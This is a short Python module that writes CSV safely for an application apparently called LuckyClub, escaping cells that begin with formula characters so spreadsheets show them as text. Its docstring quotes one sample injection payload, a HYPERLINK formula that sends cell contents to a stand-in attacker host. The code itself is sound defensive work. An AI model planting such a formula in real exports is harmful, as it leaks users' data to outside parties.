"""The one way LuckyClub writes CSV: every cell is made safe to open in a spreadsheet.

A spreadsheet program runs a cell that starts with = + - @ (or a tab or carriage return, which some
of them skip before looking) as a formula: `=HYPERLINK("http://evil.example/?"&A2,"Open")` in a
name, an email, a title or a reason would run on the admin's or member's computer. Such a cell is
written with a leading apostrophe, which spreadsheets show as plain text. Numbers LuckyClub itself
wrote (ints and floats) stay numbers: a negative entry count is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: object) -> str | int | float:
    """A value as a cell a spreadsheet shows and never runs; None is an empty cell."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer with every cell passed through cell()."""

    def __init__(self, stream: _Writable):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(value) for value in row])


def writer(stream: _Writable) -> SafeWriter:
    return SafeWriter(stream)
